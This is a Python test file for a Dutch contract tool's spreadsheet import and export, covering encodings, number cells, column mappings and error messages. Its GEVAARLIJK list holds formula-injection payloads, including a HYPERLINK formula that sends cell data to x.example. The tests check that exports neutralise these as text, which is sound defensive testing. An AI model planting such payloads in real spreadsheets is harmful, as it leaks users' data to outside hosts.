"""Trust at the spreadsheet boundary (issue 14): exports are safe to open, imports read what Excel writes.

Every file is generated in the test; assertions are on what the user gets: the CLI output,
the written YAML and the workbook as openpyxl reads it back.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT
from openpyxl import Workbook, load_workbook

from contractgen.cli import main
from contractgen.intake import tabel as tabel_module
from contractgen.intake.aanbieders import importeer
from contractgen.laden.regio import load_dataset

FIXTURE = ROOT / "tests" / "fixtures" / "aanbieders_mini"
KOP = ["naam", "kvk", "vertegenwoordiger", "domeinen", "arrangementen", "contactpersoon",
       "contactpersoon telefoon"]
RIJ = ["Nieuwe Zorg één B.V.", "87654320", "N. Nieuw", "Jeugd", "jeugd-regie", "C. Contact", "0612345678"]


@pytest.fixture
def am(tmp_path: Path) -> Path:
    doel = tmp_path / "am"
    shutil.copytree(FIXTURE, doel)
    return doel


def _importeer(runner, bestand: Path, data: Path, *extra: str):
    return runner.invoke(main, ["aanbieders", "importeer", str(bestand), "--data", str(data), *extra])


def _bestanden(data: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((data / "aanbieders").iterdir())}


def _xlsx(pad: Path, *rijen: list, formaten: dict[str, str] | None = None) -> Path:
    boek = Workbook()
    blad = boek.active
    blad.title = "Aanbieders"
    for rij in rijen:
        blad.append(rij)
    for cel, formaat in (formaten or {}).items():
        blad[cel].number_format = formaat
    boek.save(pad)
    return pad


def _nieuw(data: Path, ident: str = "nieuwe-zorg-een-b-v"):
    regios, problemen = load_dataset(data)
    return next(a for a in regios[0].aanbieders if a.id == ident)


# --- exports: never a formula ----------------------------------------------------------

GEVAARLIJK = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+31 43 000", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


@pytest.mark.parametrize("naam", GEVAARLIJK)
def test_overzicht_cells_are_text_never_formulas(runner, am, tmp_path, naam):
    pad = am / "aanbieders" / "voorbeeld.yaml"
    tekst = pad.read_text(encoding="utf-8").replace('naam: "Zorg & Co <test> {{ x }}"',
                                                    f"naam: {yaml_dq(naam)}")
    pad.write_text(tekst, encoding="utf-8")

    doel = tmp_path / "overzicht.xlsx"
    result = runner.invoke(main, ["overzicht", str(am), "--uitvoer", str(tmp_path / "o"), "--formaat", "xlsx",
                                  "--bestand", str(doel)])
    assert result.exit_code == 0, result.output
    blad = load_workbook(doel)["Aanbieders"]
    kop = [c.value for c in blad[1]]
    cel = blad.cell(2, kop.index("naam") + 1)
    assert (cel.value, cel.data_type) == (naam, "s")
    with zipfile.ZipFile(doel) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))

    result = runner.invoke(main, ["overzicht", str(am), "--uitvoer", str(tmp_path / "o"), "--formaat", "csv"])
    [rij] = list(csv.DictReader(io.StringIO(result.output, newline=""), delimiter=";"))
    assert rij["naam"] == "'" + naam  # OWASP: a leading ' makes the spreadsheet show it as text


def yaml_dq(tekst: str) -> str:
    return '"' + tekst.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


# --- encodings and separators ----------------------------------------------------------


@pytest.mark.parametrize("codering,scheiding,naam", [
    ("utf-8", ";", "UTF-8, gescheiden door puntkomma"),
    ("utf-8-sig", ",", "UTF-8, gescheiden door komma"),
    ("utf-16", "\t", "UTF-16, gescheiden door tab"),  # Excel's "Unicode-tekst": BOM, tabs
    ("utf-16-le", "\t", "UTF-16, gescheiden door tab"),  # without BOM
    ("cp1252", ";", "Windows-1252, gescheiden door puntkomma"),
])
def test_csv_as_excel_saves_it_is_read_and_named(runner, am, tmp_path, codering, scheiding, naam):
    uit = io.StringIO()
    csv.writer(uit, delimiter=scheiding).writerows([KOP, RIJ])
    bestand = tmp_path / "export.csv"
    bestand.write_bytes(uit.getvalue().encode(codering))
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 0, result.output
    assert f"gelezen: export.csv ({naam})" in result.output
    a = _nieuw(am)
    assert (a.naam, a.contactpersoon.telefoon) == ("Nieuwe Zorg één B.V.", "0612345678")


# --- formulas and number cells ---------------------------------------------------------


def _met_uitkomst(pad: Path, cel: str, uitkomst: str) -> None:
    """Store a cached result for a formula cell, as Excel does when it saves."""
    with zipfile.ZipFile(pad) as z:
        delen = {n: z.read(n) for n in z.namelist()}
    xml = delen["xl/worksheets/sheet1.xml"].decode()
    xml, n = re.subn(rf'(<c r="{cel}"[^>]*>)(<f>[^<]*</f>)(<v\s*/>|<v></v>)?', rf"\1\2<v>{uitkomst}</v>", xml)
    assert n == 1
    delen["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(pad, "w") as z:
        for naam, inhoud in delen.items():
            z.writestr(naam, inhoud)


def test_formula_without_stored_result_is_an_error_naming_sheet_row_and_column(runner, am, tmp_path):
    # a script wrote omzet as a formula and never opened the file in Excel: `--bijwerken` must not
    # report success with the old omzet
    bestand = _xlsx(tmp_path / "omzet.xlsx", ["kvk", "naam", "omzet"], ["12345678", "Zorg & Co", "=100000*3"])
    voor = _bestanden(am)
    result = _importeer(runner, bestand, am, "--bijwerken")
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        "omzet.xlsx (blad Aanbieders):2:3: kolom C 'omzet': formule '=100000*3' zonder opgeslagen uitkomst (het "
        "bestand is door een programma gemaakt en nooit in Excel geopend); open en bewaar het in Excel, of zet de "
        "waarde zelf in de cel")
    assert _bestanden(am) == voor

    _met_uitkomst(bestand, "C2", "300000")
    result = _importeer(runner, bestand, am, "--bijwerken")
    assert result.exit_code == 0, result.output
    assert str(_nieuw(am, "voorbeeld").omzet_verwacht) == "300000"


def test_numbers_in_text_columns_are_refused_not_changed(runner, am, tmp_path):
    rij = RIJ[:1] + [1234567] + RIJ[2:6] + [612345678]
    bestand = _xlsx(tmp_path / "getallen.xlsx", KOP, rij)
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        "getallen.xlsx (blad Aanbieders):2:2: kolom B 'kvk': '1234567' staat als getal in de cel (7 cijfers): "
        "Excel laat een voorloopnul dan weg; maak de kolom in Excel 'Tekst' en typ het nummer opnieuw (of typ er "
        "een ' voor)",
        "getallen.xlsx (blad Aanbieders):2:7: kolom G 'contactpersoon telefoon': telefoonnummer '612345678' staat "
        "als getal in de cel: de 0 aan het begin is dan weggevallen; maak de kolom in Excel 'Tekst' en typ het "
        "nummer opnieuw (of typ er een ' voor)",
        "2 fout(en) gevonden; er is niets geïmporteerd.",
        "gelezen: getallen.xlsx (Excel-blad 'Aanbieders')"]


def test_number_cells_that_show_their_zeros_are_read_as_shown(runner, am, tmp_path):
    rij = RIJ[:1] + [1234567] + RIJ[2:6] + [612345678]
    bestand = _xlsx(tmp_path / "nullen.xlsx", KOP, rij, formaten={"B2": "00000000", "G2": "0000000000"})
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 0, result.output
    a = _nieuw(am)
    assert (a.kvk, a.contactpersoon.telefoon) == ("01234567", "0612345678")


def test_kvk_typed_with_a_space_is_read_without_it(runner, am, tmp_path):
    bestand = _xlsx(tmp_path / "spatie.xlsx", KOP, RIJ[:1] + ["0123 4567"] + RIJ[2:])
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 0, result.output
    assert _nieuw(am).kvk == "01234567"
    bestand = _xlsx(tmp_path / "kort.xlsx", KOP, ["Korte Zorg", "0123 456"] + RIJ[2:])
    result = _importeer(runner, bestand, am)
    assert "kolom B 'kvk': ongeldig KvK-nummer '0123 456'; verwacht precies 8 cijfers" in result.output


def test_more_rows_than_the_limit_is_refused_at_the_limit(runner, am, tmp_path, monkeypatch):
    monkeypatch.setattr(tabel_module, "MAX_RIJEN", 3)
    rijen = [RIJ[:1] + [f"8765432{i}"] + RIJ[2:] for i in range(6)]
    for bestand in (_xlsx(tmp_path / "groot.xlsx", KOP, *rijen), tmp_path / "groot.csv"):
        if bestand.suffix == ".csv":
            with bestand.open("w", encoding="utf-8", newline="") as f:
                csv.writer(f, delimiter=";").writerows([KOP, *rijen])
        result = _importeer(runner, bestand, am)
        assert result.exit_code == 1
        assert "meer dan 3 rijen met aanbieders" in result.output
        assert re.search(r":5:1: meer dan 3 rijen", result.output)  # stopped at the 4th data row (row 5)


# --- intake that guides ----------------------------------------------------------------

EXPORT_KOP = ["Relatienummer", "Naam organisatie", "KvK-nummer", "Tekenbevoegde", "Sector", "Producten",
              "Accountmanager"]
EXPORT_RIJ = ["R-001", "Export Zorg", "87654321", "E. Export", "Jeugd", "Arrangement Begeleiding; regie", "X"]


def test_export_of_another_system_with_a_column_mapping(runner, am, tmp_path):
    bestand = _xlsx(tmp_path / "export.xlsx", EXPORT_KOP, EXPORT_RIJ)
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 1
    regels = result.output.splitlines()
    # every unknown header in one run, with what to do about it
    assert sum("onbekende kolom" in r for r in regels) == 5
    assert regels[-1].startswith("tip: 5 kolom(men) onbekend (gelezen als Excel-blad 'Aanbieders'); maak met "
                                 "'contractgen aanbieders kolommen export.xlsx' een kolommenbestand")

    mapping = tmp_path / "kolommen.yaml"
    result = runner.invoke(main, ["aanbieders", "kolommen", str(bestand), "--data", str(am), "--uitvoer",
                                  str(mapping)])
    assert result.exit_code == 0, result.output
    tekst = mapping.read_text(encoding="utf-8")
    assert "'Naam organisatie': naam" in tekst and "'KvK-nummer': kvk" in tekst
    assert "'Relatienummer': negeren" in tekst
    # the user finishes the mapping
    tekst = tekst.replace("'Tekenbevoegde': negeren", "'Tekenbevoegde': vertegenwoordiger")
    tekst = re.sub(r"'Sector': \w+.*", "'Sector': domeinen", tekst)
    tekst = re.sub(r"'Producten': \w+.*", "'Producten': arrangementen", tekst)
    mapping.write_text(tekst, encoding="utf-8")

    result = _importeer(runner, bestand, am, "--kolommen", str(mapping))
    assert result.exit_code == 0, result.output
    a = _nieuw(am, "export-zorg")
    # arrangements by printed name ("Arrangement Begeleiding", "regie") as well as by id
    assert (a.vertegenwoordiger.naam, a.domeinen, a.arrangementen) == ("E. Export", ["jeugd"],
                                                                       ["jeugd-begeleiding", "jeugd-regie"])


def test_a_wrong_column_mapping_names_its_line(runner, am, tmp_path):
    bestand = _xlsx(tmp_path / "export.xlsx", EXPORT_KOP, EXPORT_RIJ)
    mapping = tmp_path / "kolommen.yaml"
    mapping.write_text("Naam organisatie: naam\nKvK-nummer: kvknr\nRelatienummer: negeren\n", encoding="utf-8")
    result = _importeer(runner, bestand, am, "--kolommen", str(mapping))
    assert result.exit_code == 1
    assert "kolommen.yaml:2:1: KvK-nummer: onbekende kolom 'kvknr'; bedoelde u 'kvk'?" in result.output
    # in the same run as the problems of the export itself
    assert "export.xlsx (blad Aanbieders):1:4: kolom D 'Tekenbevoegde': onbekende kolom" in result.output
    assert "Relatienummer" not in result.output


def test_unknown_arrangement_by_name_gets_a_suggestion(runner, am, tmp_path):
    bestand = _xlsx(tmp_path / "a.xlsx", KOP, RIJ[:4] + ["Arrangement Begeleidng"] + RIJ[5:])
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 1
    assert ("a.xlsx (blad Aanbieders):2:5: kolom E 'arrangementen': onbekend arrangement 'Arrangement "
            "Begeleidng' (bedoelde u 'Begeleiding', jeugd-begeleiding?)") in result.output


def test_every_error_of_a_file_in_one_run(runner, am, tmp_path):
    kop = KOP + ["B1", "Opmerking"]
    rijen = [RIJ + ["Ja", ""],
             ["Tweede"] + ["123"] + RIJ[2:] + ["Misschien", ""],
             ["Derde", "87654322", "D. Derde", "Jeugd", "jeugd-regi", "", "", "Ja", ""]]
    result = _importeer(runner, _xlsx(tmp_path / "alles.xlsx", kop, *rijen), am)
    assert result.exit_code == 1
    regels = result.output.splitlines()
    assert regels[:-3] == [
        "alles.xlsx (blad Aanbieders):1:9: kolom I 'Opmerking': onbekende kolom",
        "alles.xlsx (blad Aanbieders):3:2: kolom B 'kvk': ongeldig KvK-nummer '123'; verwacht precies 8 cijfers",
        "alles.xlsx (blad Aanbieders):3:8: kolom H 'B1': ongeldige waarde 'Misschien'; verwacht een van: Ja, Nee, "
        "NVT",
        "alles.xlsx (blad Aanbieders):4:5: kolom E 'arrangementen': onbekend arrangement 'jeugd-regi' "
        "(bedoelde u 'jeugd-regie'?); verwacht een id, titel of productcode uit de tarieven van de regio"]
    assert regels[-3:] == ["4 fout(en) gevonden; er is niets geïmporteerd.",
                           "gelezen: alles.xlsx (Excel-blad 'Aanbieders')",
                           "tip: 1 kolom(men) onbekend (gelezen als Excel-blad 'Aanbieders'); maak met 'contractgen "
                           "aanbieders kolommen alles.xlsx' een kolommenbestand dat elke kop koppelt aan een kolom "
                           "of 'negeren', en geef het mee met --kolommen"]


def test_intake_workbook_has_headers_notes_and_dropdowns_and_imports_when_filled(runner, am, tmp_path):
    doel = tmp_path / "intake.xlsx"
    result = runner.invoke(main, ["aanbieders", "sjabloon", "--data", str(am), "--uitvoer", str(doel)])
    assert result.exit_code == 0, result.output
    boek = load_workbook(doel)
    blad = boek["Aanbieders"]
    kop = [c.value for c in blad[1]]
    assert kop[:3] == ["id", "naam", "kvk"] and "A1" in kop and "motivatie A1" in kop
    assert blad["A2"].value.startswith("# ")  # the notes row, skipped by the import
    assert blad.cell(2, kop.index("kvk") + 1).value == "verplicht; 8 cijfers, als tekst"
    lijsten = {str(v.sqref).split(":")[0]: v.formula1 for v in blad.data_validations.dataValidation}
    kolom = {naam: blad.cell(1, i + 1).column_letter for i, naam in enumerate(kop)}
    assert lijsten[f"{kolom['A1']}3"] == "'Keuzelijsten'!$C$2:$C$4"
    assert [boek["Keuzelijsten"].cell(r, 3).value for r in (2, 3, 4)] == ["Ja", "Nee", "NVT"]
    assert kolom["domeinen"] + "3" in lijsten and kolom["arrangementen"] + "3" in lijsten
    keuzes = boek["Keuzelijsten"]
    ids = [keuzes.cell(r, 2).value for r in range(2, keuzes.max_row + 1) if keuzes.cell(r, 2).value]
    assert lijsten[f"{kolom['arrangementen']}3"] == f"'Keuzelijsten'!$B$2:$B${len(ids) + 1}"
    assert ids[:2] == ["jeugd-regie", "jeugd-begeleiding"] and keuzes.cell(2, 5).value == "Arrangement Regie"
    assert blad.cell(3, kop.index("kvk") + 1).number_format == "@"  # text: Excel keeps the leading 0

    ingevuld = {"naam": "Sjabloon Zorg", "kvk": "01234567", "vertegenwoordiger": "S. Sjabloon",
                "domeinen": "Jeugd", "arrangementen": "Arrangement Regie", "A1": "Ja"}
    for naam, waarde in ingevuld.items():
        blad.cell(3, kop.index(naam) + 1, waarde)
    boek.save(doel)
    result = _importeer(runner, doel, am)
    assert result.exit_code == 0, result.output
    a = _nieuw(am, "sjabloon-zorg")
    assert (a.kvk, a.arrangementen, a.kwaliteitseisen["A1"].antwoord) == ("01234567", ["jeugd-regie"], "Ja")


@pytest.mark.parametrize("domein,verwacht", [("Wmo", "wmo-begeleiding-individueel"),
                                             ("Jeugd", "jeugd-begeleiding-individueel")])
def test_a_printed_name_two_domeinen_use_is_the_one_of_the_row(runner, tmp_path, domein, verwacht):
    # Jeugd prints "Arrangement Begeleiding individueel", Wmo "... individueel (maandtarief)"
    kop = ["naam", "kvk", "vertegenwoordiger", "arrangementen", "domeinen"]
    bestand = _xlsx(tmp_path / "n.xlsx", kop, ["Naam Zorg", "87654320", "N. Naam", "Begeleiding individueel", domein])
    [g] = importeer(bestand, ROOT / "contracts_data" / "maastricht-heuvelland", proef=True).aanbieders
    assert g.aanbieder.arrangementen == [verwacht]


def test_a_file_over_the_size_limit_is_refused_before_reading(runner, am, tmp_path, monkeypatch):
    monkeypatch.setattr(tabel_module, "MAX_XLSX_BYTES", 1024)
    bestand = _xlsx(tmp_path / "groot.xlsx", KOP, RIJ)
    result = _importeer(runner, bestand, am)
    assert result.exit_code == 1
    assert result.output.startswith("groot.xlsx: het bestand is te groot (0 MB); verwacht hoogstens 0 MB")
